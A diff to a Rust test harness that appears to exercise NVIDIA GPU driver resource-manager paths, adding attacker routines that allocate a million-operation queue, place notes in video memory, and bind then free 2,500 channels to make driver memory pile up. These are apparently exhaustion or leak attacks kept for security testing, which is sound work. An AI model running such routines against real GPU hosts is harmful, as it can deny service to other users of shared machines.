@@ -30,6 +30,10 @@ attacks! {
         Passes, Told, registrations;
     "host memory by one queue (NV_MEMORY_MAPPER)": "mem_mapper.c:memmapperConstruct_IMPL",
         Passes, Gpu, large_queue;
+    "BAR1 for a queue's notes (NV_MEMORY_MAPPER)": "mem_mapper.c:memmapperConstruct_IMPL",
+        Passes, Gpu, notes_in_video_memory;
+    "host memory by channels that were bound (BIND_CHANNEL)": "sem_surf.c:semsurfCtrlCmdBindChannel_IMPL",
+        Passes, Gpu, bonds;
     "BAR1 lost by a context for DMA (NV01_CONTEXT_DMA)": "context_dma.c:_ctxdmaDestroyFBMappings",
         Passes, Gpu, kernel_mapping;
     "host memory read by a debugger (DEBUG_READ_MEMORY)": "kernel_sm_debugger_session_ctrl.c:_nv83deCtrlCmdDebugAccessMemory",
@@ -133,17 +137,50 @@ fn registrations(a: &Attacker) -> Verdict {
     Ok(())
 }
 
-fn large_queue(a: &Attacker) -> Verdict {
-    const SURFACE: u32 = OWN + 1;
+/// A surface of semaphores over host memory, of handle `OWN`.
+const SURFACE: u32 = OWN + 5;
+
+fn surface(a: &Attacker) -> Verdict {
     told(a.client.system_page(OWN))?;
     let mut params = [0; 16];
     put_u32(&mut params, 0, OWN);
-    a.alloc(rm::SUBDEVICE_HANDLE, SURFACE, 0xda, &mut params)?;
+    a.alloc(rm::SUBDEVICE_HANDLE, SURFACE, 0xda, &mut params)
+}
+
+/// A queue of so many operations, and memory for its notes.
+fn queue(a: &Attacker, operations: u32, notes: u32) -> Verdict {
+    surface(a)?;
     let mut params = [0; 24];
     put_u32(&mut params, 0, SURFACE);
-    put_u32(&mut params, 4, 1 << 20);
-    put_u32(&mut params, 8, OWN);
-    a.alloc(rm::SUBDEVICE_HANDLE, OWN + 2, 0xfe, &mut params)
+    put_u32(&mut params, 4, operations);
+    put_u32(&mut params, 8, notes);
+    a.alloc(rm::SUBDEVICE_HANDLE, OWN + 6, 0xfe, &mut params)
+}
+
+fn large_queue(a: &Attacker) -> Verdict {
+    queue(a, 1 << 20, OWN)
+}
+
+fn notes_in_video_memory(a: &Attacker) -> Verdict {
+    told(a.client.memory(OWN + 1, 2 * MIB))?;
+    queue(a, 1, OWN + 1)
+}
+
+/// Each channel goes again, and what the driver made for it stays.
+fn bonds(a: &Attacker) -> Verdict {
+    const GROUP: u32 = OWN + 1;
+    const CHANNELS: u32 = 2500;
+    surface(a)?;
+    told(a.client.channel_group(GROUP, rm::COMPUTE))?;
+    for channel in (OWN + 16..).take(CHANNELS as usize) {
+        told(a.client.channel(GROUP, channel))?;
+        let mut params = [0; 40];
+        put_u32(&mut params, 0, channel);
+        put_u32(&mut params, 4, 1);
+        a.control(SURFACE, 0xda_0002, &mut params)?;
+        told(a.client.free(channel))?;
+    }
+    Ok(())
 }
 
 /// A context over video memory that is mapped for the kernel (`NVOS03_FLAGS_TYPE_NOTIFIER`).
